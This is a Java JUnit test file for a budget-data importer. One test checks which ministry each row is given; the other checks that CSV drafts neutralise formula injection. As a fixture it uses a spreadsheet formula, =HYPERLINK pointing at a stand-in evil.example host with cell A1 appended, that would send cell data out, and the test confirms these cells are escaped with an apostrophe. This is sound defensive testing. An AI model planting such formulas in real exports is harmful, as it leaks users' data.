package org.seisaku.importer;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.seisaku.testing.Folders;
import org.seisaku.diag.Problems;
import org.seisaku.model.Amount;
import org.seisaku.model.BudgetKind;
import org.seisaku.model.FiscalYear;
import org.seisaku.model.Ministry;
import org.seisaku.model.ProgramYear;
import org.seisaku.source.Corpus;
import org.seisaku.source.Sources;

/**
 * Issue 9, failure 10, in the importer's drafts: text that a spreadsheet would evaluate (a program name found in a
 * PDF that begins with {@code =HYPERLINK(}, an amount {@code -3億円}) is written as data/budget.csv writes it, with
 * an apostrophe, and the budget reader reads the draft back as it was found.
 */
class DraftCsvTest {
  @TempDir Path tmp;

  @Test
  void aRowTakesTheMinistryNamedInBracketsAfterItsFigure() throws IOException {
    // a decision to use the reserve lists each program with its ministry: the rows are theirs, not --ministry's
    SourceText text = SourceText.ofText("yobihi.txt", "・災害救助費等負担金　４５億円（内閣府）\n・災害廃棄物処理事業費補助金　３６億円（環境省）\n"
        + "・公共土木施設災害復旧事業費　１２０億円（前年度 ８０億円）【国土交通省】\n・地域交通確保事業　５億円（新規）");
    FiscalYear fy = FiscalYear.parse("令和7年度").orElseThrow();
    List<String> written = List.of("４５億円", "３６億円", "１２０億円", "５億円");
    List<String> programs = List.of("災害救助費等負担金", "災害廃棄物処理事業費補助金", "公共土木施設災害復旧事業費", "地域交通確保事業");
    List<FoundItem> items = new java.util.ArrayList<>();
    for (int i = 0; i < 4; i++) {
      items.add(new FoundItem(programs.get(i), fy, BudgetKind.RESERVE, Amount.parse(written.get(i)), written.get(i), null,
          text.lines().get(i), 0.9, List.of("t")));
    }
    var ministries = ImportEvaluationTest.ministries();
    Ministry cao = ministries.find("内閣府").orElseThrow();
    List<String> column = new java.util.ArrayList<>();
    for (String line : Draft.csv(text, items, new Draft.Meta(fy, cao, BudgetKind.RESERVE, null, ministries), "").split("\n")) {
      column.add(line.split(",")[1]);
    }
    assertEquals(List.of("ministry", "cao", ministries.find("環境省").orElseThrow().id(), ministries.find("国土交通省").orElseThrow().id(), "cao"),
        column);
  }

  @Test
  void formulaLikeCellsAreNotEvaluatedAndReadBackAsFound() throws IOException {
    String name = "=HYPERLINK(\"http://evil.example/?\"&A1,\"事業\")";
    SourceText text = SourceText.ofText("plan.txt", name + "　-3億円\n@事業 1億円\n");
    FiscalYear fy = FiscalYear.parse("2008").orElseThrow();
    List<FoundItem> items = List.of(
        new FoundItem(name, fy, BudgetKind.SUPPLEMENTARY, Amount.parse("-3億円"), "-3億円", null, text.lines().get(0), 0.9, List.of("t")),
        new FoundItem("@事業", fy, BudgetKind.INITIAL, Amount.parse("1億円"), "1億円", null, text.lines().get(1), 0.9, List.of("t")));
    Ministry soumu = new Ministry("soumu", "総務省", "", List.of(), 1, null, null, null);
    String csv = Draft.csv(text, items, new Draft.Meta(fy, soumu, null, null), "");
    for (String line : csv.split("\n")) {
      for (String cell : line.split(",(?=(?:[^\"]*\"[^\"]*\")*[^\"]*$)")) {
        String unquoted = cell.startsWith("\"") ? cell.substring(1) : cell;
        assertFalse(unquoted.matches("^[=+\\-@].*"), "a spreadsheet would evaluate " + cell + " in " + line);
      }
    }
    assertTrue(csv.contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"事業\"\")\""), csv);
    assertTrue(csv.contains(",'-3億円,"), csv);

    Path content = tmp.resolve("content");
    Folders.copy(Path.of("src/test/resources/fixtures/content"), content);
    Folders.copy(Path.of("src/test/resources/fixtures/judgit"), tmp.resolve("judgit")); // the source its site.yml names
    Files.writeString(content.resolve("budget/import-plan.csv"), csv, StandardCharsets.UTF_8);
    Problems problems = new Problems();
    Corpus corpus = Sources.read(content, List.of(), problems);
    assertFalse(problems.hasErrors(), problems.sorted().toString());
    ProgramYear evil = corpus.programYears().stream().filter(p -> p.name().startsWith("=HYPERLINK")).findFirst().orElseThrow();
    assertEquals(name, evil.name());
    assertEquals(-300_000_000L, evil.items().get(0).amount().yen());
    assertTrue(corpus.programYears().stream().anyMatch(p -> p.name().equals("@事業")));
  }
}
